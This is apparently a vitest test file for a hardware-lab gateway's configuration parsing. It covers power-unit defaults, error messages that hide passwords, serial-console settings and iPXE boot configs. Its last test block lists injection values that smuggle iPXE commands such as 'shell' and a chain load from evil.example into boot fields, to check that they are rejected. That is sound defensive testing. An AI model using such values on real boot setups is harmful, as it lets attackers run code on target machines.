import { describe, expect, it } from "vitest";
import { gatewayConfigSchema } from "../../src/consul/gateway-config.js";
import { dutConfigSchema, parseGatewayConfig, pduConfigSchema } from "../../src/gateway/config.js";

const pdu = (json: unknown) => parseGatewayConfig(pduConfigSchema, "petrel/pdus/apc1", JSON.stringify(json));

describe("PDU config", () => {
  it("fills an SNMP PDU's defaults: port 161, community private, 30 s minimum off time", () => {
    expect(pdu({ driver: "apc", host: "10.0.0.5" })).toEqual({
      driver: "apc", host: "10.0.0.5", port: 161, community: "private", minOffMs: 30_000, retries: 3, retryDelayMs: 200, timeoutMs: 5_000,
    });
  });

  it.each([
    [{ driver: "apc" }, "petrel/pdus/apc1: host: "],
    [{ driver: "apc", host: "h", port: 70000 }, "petrel/pdus/apc1: port: expected a port 1-65535"],
    [{ driver: "raritan", host: "h" }, "petrel/pdus/apc1: driver: expected one of apc, cyberpower, snmp, tasmota, shelly, shell, virtual"],
    [{ driver: "shelly", host: "h" }, "petrel/pdus/apc1: generation: "],
    [{ driver: "snmp", host: "h", control: "not-an-oid" }, "petrel/pdus/apc1: control: expected a numeric OID"],
    [{ driver: "virtual", command: [], outlets: 2 }, "petrel/pdus/apc1: command: expected the program and its arguments"],
    [{ driver: "apc", host: "h", minOffMs: 1.5 }, "petrel/pdus/apc1: minOffMs: expected whole milliseconds"],
  ])("names the field of %j", (json, message) => {
    expect(() => pdu(json)).toThrow(message);
  });

  it("rejects text that is not JSON", () => {
    expect(() => parseGatewayConfig(pduConfigSchema, "petrel/pdus/x", "{driver")).toThrow("petrel/pdus/x: not JSON");
  });

  it("never repeats a community or password in its error", () => {
    const error = (() => {
      try {
        return pdu({ driver: "tasmota", host: "h", password: 12345678 });
      } catch (e) {
        return e;
      }
    })();
    expect(String(error)).toContain("password: ");
    expect(String(error)).not.toContain("12345678");
  });
});

describe("DUT config", () => {
  const dut = (json: unknown) => parseGatewayConfig(dutConfigSchema, "petrel/duts/board7", JSON.stringify(json));

  it("takes a serial console with its baud, and defaults the kernel-panic reboot marker and timeouts", () => {
    const parsed = dut({ pdu: "apc1", outlet: 7, console: { serial: "/dev/ttyUSB0", baud: 9600 }, markers: { success: "^PASS$" } });
    expect(parsed.console).toEqual({ serial: "/dev/ttyUSB0", baud: 9600 });
    expect(parsed.markers.reboot).toEqual(["Kernel panic - not syncing"]);
    expect(parsed.timeouts.silenceMs).toBe(300_000);
  });

  it.each([
    [{ outlet: 7, console: { serial: "/dev/ttyUSB0" } }, "petrel/duts/board7: pdu: "],
    [{ pdu: "apc1", outlet: 7, console: {} }, "petrel/duts/board7: console: expected {\"serial\""],
    [{ pdu: "apc1", outlet: 7, console: { tcp: { host: "h", port: 7001 } }, markers: { failure: "(unclosed" } }, "petrel/duts/board7: markers.failure: expected a valid regular expression"],
  ])("names the field of %j", (json, message) => {
    expect(() => dut(json)).toThrow(message);
  });
});

describe("gateway boot config", () => {
  const base = { kernel: "https://boot.example.org/vmlinuz", initrd: "https://boot.example.org/initrd", args: "console=ttyS0" };
  it.each([
    ["kernel", "https://boot.example.org/vmlinuz\nchain http://evil.example/x.ipxe"],
    ["initrd", "https://boot.example.org/initrd\rshell"],
    ["initrd", "https://boot.example.org/initrd imgexec"],
    ["args", "console=ttyS0\nshell"],
    ["args", "console=ttyS0\u0000"],
    ["name", "lab\nshell"],
  ])("refuses a %s that would add iPXE commands to the script (%#)", (field, value) => {
    const parsed = gatewayConfigSchema.safeParse({ ...base, [field]: value });
    expect(parsed.success).toBe(false);
    expect(parsed.error?.issues[0]?.path).toEqual([field]);
  });

  it("takes a config without an initrd", () => {
    expect(gatewayConfigSchema.parse({ kernel: base.kernel })).toMatchObject({ kernel: base.kernel, args: "" });
  });
});
